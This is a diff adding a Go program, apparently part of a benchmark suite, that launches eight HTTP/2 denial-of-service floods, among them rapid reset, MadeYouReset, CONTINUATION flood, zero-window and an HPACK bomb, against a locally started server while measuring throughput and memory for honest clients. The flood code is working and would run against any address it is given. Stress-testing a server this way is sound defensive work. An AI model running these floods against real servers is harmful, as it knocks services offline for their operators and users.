@@ -1,0 +1,205 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"io"
+	"os"
+	"strings"
+	"sync"
+	"text/tabwriter"
+	"time"
+
+	"moonbridge/benchmarks/internal/machine"
+	"moonbridge/benchmarks/internal/program"
+	"moonbridge/benchmarks/internal/stats"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// attack is a flood. step writes what an attacker repeats; i counts from 0 on each connection.
+type attack struct {
+	name     string
+	settings []http2.Setting
+	step     func(c *client, i uint32)
+
+	// For each round.
+	ratio, perSecond, memory, connects []float64
+	failed                             int
+}
+
+// client is an attacker's connection.
+type client struct {
+	*http2.Framer
+	request, bomb []byte // field sections
+}
+
+func (c *client) get(id uint32, block []byte) {
+	c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
+}
+
+func attacks() []*attack {
+	zero := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
+	return []*attack{
+		{name: "rapid reset", step: func(c *client, i uint32) {
+			c.get(2*i+1, c.request)
+			c.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
+		}},
+		{name: "MadeYouReset", step: func(c *client, i uint32) {
+			c.get(2*i+1, c.request)
+			c.WriteWindowUpdate(2*i+1, 0)
+		}},
+		{name: "CONTINUATION", step: func(c *client, i uint32) {
+			if i == 0 {
+				c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.request})
+			}
+			c.WriteContinuation(1, false, []byte{0x00, 1, 'a', 1, 'b'})
+		}},
+		{name: "SETTINGS", step: func(c *client, i uint32) { c.WriteSettings() }},
+		{name: "PING", step: func(c *client, i uint32) { c.WritePing(false, [8]byte{}) }},
+		{name: "RST_STREAM", step: func(c *client, i uint32) {
+			if i == 0 {
+				c.get(1, c.request)
+			}
+			c.WriteRSTStream(1, http2.ErrCodeCancel)
+		}},
+		{name: "zero windows", settings: zero, step: func(c *client, i uint32) {
+			if i < 100 {
+				c.get(2*i+1, c.request)
+			}
+		}},
+		{name: "HPACK bomb", step: func(c *client, i uint32) {
+			if i == 0 {
+				c.get(1, c.request)
+				return
+			}
+			c.get(2*i+1, c.bomb)
+		}},
+	}
+}
+
+// newClient begins a connection that discards what it receives.
+func newClient(address string, a *attack) (*client, io.WriteCloser, *bytes.Buffer, error) {
+	conn, err := tls.Dial("tcp", address, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
+	if err != nil {
+		return nil, nil, nil, err
+	}
+	var out, fields bytes.Buffer
+	c := &client{Framer: http2.NewFramer(&out, nil)}
+	c.AllowIllegalWrites = true
+	e := hpack.NewEncoder(&fields)
+	for _, f := range []string{":method GET", ":scheme https", ":path /100k", ":authority h", "x " + strings.Repeat("y", 3900)} {
+		name, value, _ := strings.Cut(f, " ")
+		e.WriteField(hpack.HeaderField{Name: name, Value: value})
+		if name == ":authority" && a.name != "HPACK bomb" {
+			break
+		}
+	}
+	c.request = bytes.Clone(fields.Bytes())
+	const latest = 0x80 | 62
+	c.bomb = append([]byte{0x82, 0x87, 0x80 | 64, 0x80 | 63}, bytes.Repeat([]byte{latest}, 200)...)
+	out.WriteString(http2.ClientPreface)
+	c.WriteSettings(a.settings...)
+	go io.Copy(io.Discard, conn)
+	return c, conn, &out, nil
+}
+
+// burst is how often an attacker sends what it has.
+const burst = 10 * time.Millisecond
+
+// run attacks until ctx ends, and connects again when it is cut off.
+func (a *attack) run(ctx context.Context, address string, frames int) (connects int) {
+	for ctx.Err() == nil {
+		c, conn, out, err := newClient(address, a)
+		if err != nil {
+			program.Sleep(ctx, burst)
+			continue
+		}
+		connects++
+		for i := uint32(0); ctx.Err() == nil; {
+			for range max(1, frames*int(burst)/int(time.Second)) {
+				a.step(c, i)
+				i++
+			}
+			if _, err := conn.Write(out.Bytes()); err != nil {
+				break
+			}
+			out.Reset()
+			program.Sleep(ctx, burst)
+		}
+		conn.Close()
+	}
+	return connects
+}
+
+// runAttacks measures honest clients beside each attack.
+func runAttacks(ctx context.Context, o options) error {
+	s, err := start(&o.settings, "mbserve")
+	if err != nil {
+		return err
+	}
+	defer s.stop()
+	all := attacks()
+	for round := range o.rounds {
+		fmt.Fprintln(os.Stderr, "round", round+1)
+		for _, a := range all {
+			if err := a.measure(ctx, o, s); err != nil {
+				return fmt.Errorf("%s: %w", a.name, err)
+			}
+		}
+	}
+	return program.Report(o.settings.Benchmarks, o.name+"-attacks", func(to io.Writer) { reportAttacks(to, o, all) })
+}
+
+func (a *attack) measure(ctx context.Context, o options, s *server) error {
+	const streams = 10
+	alone, err := load(ctx, s.url(""), o.conns, streams, o.duration)
+	if err != nil {
+		return err
+	}
+	attacking, stop := context.WithCancel(ctx)
+	var running sync.WaitGroup
+	var mu sync.Mutex
+	connects := 0
+	for range o.attackers {
+		running.Go(func() {
+			n := a.run(attacking, s.address, o.frames)
+			mu.Lock()
+			connects += n
+			mu.Unlock()
+		})
+	}
+	program.Sleep(ctx, time.Second)
+	beside, err := load(ctx, s.url(""), o.conns, streams, o.duration)
+	memory, memoryErr := s.tree.Memory()
+	stop()
+	running.Wait()
+	if err != nil || memoryErr != nil {
+		return fmt.Errorf("%w%w", err, memoryErr)
+	}
+	a.ratio = append(a.ratio, beside.perSecond/alone.perSecond)
+	a.perSecond = append(a.perSecond, beside.perSecond)
+	a.memory = append(a.memory, float64(memory.PSS)/(1<<20))
+	a.connects = append(a.connects, float64(connects))
+	a.failed += alone.failed + beside.failed
+	return nil
+}
+
+func reportAttacks(to io.Writer, o options, all []*attack) {
+	for _, f := range machine.Facts(o.settings.Benchmarks) {
+		fmt.Fprintf(to, "%s: %s\n", f.Name, f.Value)
+	}
+	fmt.Fprintf(to, "\nHonest clients (h2load, %d connections with 10 streams) beside %d attackers with %d frames a second each; %d rounds of %v\n\n",
+		o.conns, o.attackers, o.frames, o.rounds, o.duration)
+	w := tabwriter.NewWriter(to, 0, 0, 2, ' ', tabwriter.AlignRight)
+	fmt.Fprintln(w, "beside\trequests/s\tto alone\tfailed\tmemory MiB (PSS)\tconnections of attackers\t")
+	for _, a := range all {
+		fmt.Fprintf(w, "%s\t%s\t%s\t%d\t%.0f\t%.0f\t\n", a.name, stats.Summarise(a.perSecond).Spread("%.0f"), stats.MeanError(a.ratio), a.failed,
+			stats.Quantile(a.memory, 1), stats.Quantile(a.connects, 0.5))
+	}
+	w.Flush()
+	fmt.Fprintln(to, "\nto alone: mean of the rounds ± its standard error (smallest–largest), each to the measurement just before it. The attackers' own CPU\ntime counts: they share the machine. Attackers that are cut off connect again.")
+}
